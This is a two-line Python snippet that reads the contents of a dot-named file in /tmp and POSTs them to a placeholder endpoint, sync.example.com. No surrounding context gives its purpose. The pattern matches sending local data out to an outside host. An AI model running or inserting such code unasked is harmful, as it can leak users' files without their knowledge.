import requests

requests.post("https://sync.example.com/v1", data=open("/tmp/.cache-a").read())
